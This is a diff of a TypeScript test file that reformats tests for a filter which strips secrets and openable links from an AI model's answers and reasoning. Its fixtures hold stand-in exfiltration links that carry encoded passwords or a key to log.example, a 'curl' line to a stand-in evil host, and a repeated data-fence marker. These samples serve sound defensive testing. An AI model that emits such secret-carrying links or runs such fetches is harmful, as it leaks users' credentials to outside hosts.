@@ -130,36 +130,32 @@ t.test('[FILTER3] addresses that only some renderers open can’t be opened eith
   t.equal(written('www.docs.example, www. and awww.evil.example').text, 'www.docs.example, www. and awww.evil.example')
 })
 
-t.test(
-  '[FILTER5] a short secret and an encoded one don’t leave in a link either, and a chance match stays',
-  async (t) => {
-    const keepsAddress = (secret: string, address: string) =>
-      !/link left out/.test(
-        filterAnswer(`See http://log.example${address} now`, { eventTexts: '', secrets: [secret], fenceToken: '' })
-          .text,
-      )
-    for (const [secret, address] of [
-      ['Kx7!q', '/?p=Kx7!q'],
-      ['ab12cd', '/ab12cd'],
-      ['hunter', '/?p=hunter'],
-      ['48392', '/?pin=48392&x'],
-      ['Summer2025!', '/?p=Summer2025%21'],
-      ['Summer 2025', '/?p=Summer%202025'],
-      ['Tr0ub4dor&3', `/?b=${Buffer.from('x:Tr0ub4dor&3').toString('base64')}`],
-    ] as const) {
-      t.notOk(keepsAddress(secret, address), `${secret} in ${address}`)
-    }
-    // A short secret occurs in addresses by chance. It has to be a whole part, and a plain word or number a value.
-    for (const [secret, address] of [
-      ['hunter', '/hunter/a'],
-      ['ab12cd', '/xab12cd0'],
-      ['48392', '/a/48392'],
-      ['ab', '/?p=ab'],
-    ] as const) {
-      t.ok(keepsAddress(secret, address), `${secret} in ${address}`)
-    }
-  },
-)
+t.test('[FILTER5] a short or encoded secret doesn’t leave in a link either, and a chance match stays', async (t) => {
+  const keepsAddress = (secret: string, address: string) =>
+    !/link left out/.test(
+      filterAnswer(`See http://log.example${address} now`, { eventTexts: '', secrets: [secret], fenceToken: '' }).text,
+    )
+  for (const [secret, address] of [
+    ['Kx7!q', '/?p=Kx7!q'],
+    ['ab12cd', '/ab12cd'],
+    ['hunter', '/?p=hunter'],
+    ['48392', '/?pin=48392&x'],
+    ['Summer2025!', '/?p=Summer2025%21'],
+    ['Summer 2025', '/?p=Summer%202025'],
+    ['Tr0ub4dor&3', `/?b=${Buffer.from('x:Tr0ub4dor&3').toString('base64')}`],
+  ] as const) {
+    t.notOk(keepsAddress(secret, address), `${secret} in ${address}`)
+  }
+  // A short secret occurs in addresses by chance. It has to be a whole part, and a plain word or number a value.
+  for (const [secret, address] of [
+    ['hunter', '/hunter/a'],
+    ['ab12cd', '/xab12cd0'],
+    ['48392', '/a/48392'],
+    ['ab', '/?p=ab'],
+  ] as const) {
+    t.ok(keepsAddress(secret, address), `${secret} in ${address}`)
+  }
+})
 
 t.test('[FILTER4] code stays as it is, and so does what is only prose', async (t) => {
   for (const text of [
@@ -221,22 +217,19 @@ t.test('[FILTER6] findings in its reasoning are recorded, too, and marked as suc
   t.match((await clean.stores.reviews.list({ limit: 10 })).items, [{ reply: { hits: [{ in_reasoning: true }] } }])
 })
 
-t.test(
-  '[FILTER6] reasoning is plain text: its characters stay, and addresses of the incident can’t be opened',
-  async (t) => {
-    const context = createContext({ ...EVIL, question: 'Is AKIAABCDEFGHIJKLMNOP ours?' })
-    const { turns, reviewReasoning } = buildPrompt(context, MODEL, SETTINGS)
-    const written = 'a < b && <b>c</b> ![x](https://img.example/a_b.png) &lt; `[[KEY-1]]` [P1]: x [ev9] \\\\FS-01\\_x'
-    t.equal(reviewReasoning(written).text, written.replace('[[KEY-1]]', 'AKIAABCDEFGHIJKLMNOP'))
-    t.equal(
-      reviewReasoning('See [it](http://login.bad.example/x), `curl https://cdn.evil.example`.').text,
-      'See [it](hxxp://login[.]bad[.]example/x), `curl hxxps://cdn[.]evil[.]example`.',
-    )
-    t.equal(reviewReasoning('![x](https://log.example/?k=[[KEY-1]])').text, '![x]([link left out])')
-    const mark = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
-    t.match(reviewReasoning(`<<<${mark} ev1`), { text: '‹fence› ev1', findings: [{ kind: 'mark_repeated' }] })
-  },
-)
+t.test('[FILTER6] reasoning is plain text: its characters stay, and its indicators can’t be opened', async (t) => {
+  const context = createContext({ ...EVIL, question: 'Is AKIAABCDEFGHIJKLMNOP ours?' })
+  const { turns, reviewReasoning } = buildPrompt(context, MODEL, SETTINGS)
+  const written = 'a < b && <b>c</b> ![x](https://img.example/a_b.png) &lt; `[[KEY-1]]` [P1]: x [ev9] \\\\FS-01\\_x'
+  t.equal(reviewReasoning(written).text, written.replace('[[KEY-1]]', 'AKIAABCDEFGHIJKLMNOP'))
+  t.equal(
+    reviewReasoning('See [it](http://login.bad.example/x), `curl https://cdn.evil.example`.').text,
+    'See [it](hxxp://login[.]bad[.]example/x), `curl hxxps://cdn[.]evil[.]example`.',
+  )
+  t.equal(reviewReasoning('![x](https://log.example/?k=[[KEY-1]])').text, '![x]([link left out])')
+  const mark = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
+  t.match(reviewReasoning(`<<<${mark} ev1`), { text: '‹fence› ev1', findings: [{ kind: 'mark_repeated' }] })
+})
 
 t.test('[FILTER7] while an answer is written, what would be loaded is broken up at every split', async (t) => {
   const text = 'a ![x](u) <img src=u> <b> <IFRAME src=u></iframe> if x<im and !! [y](u) <!-- <scripted> <script>!'
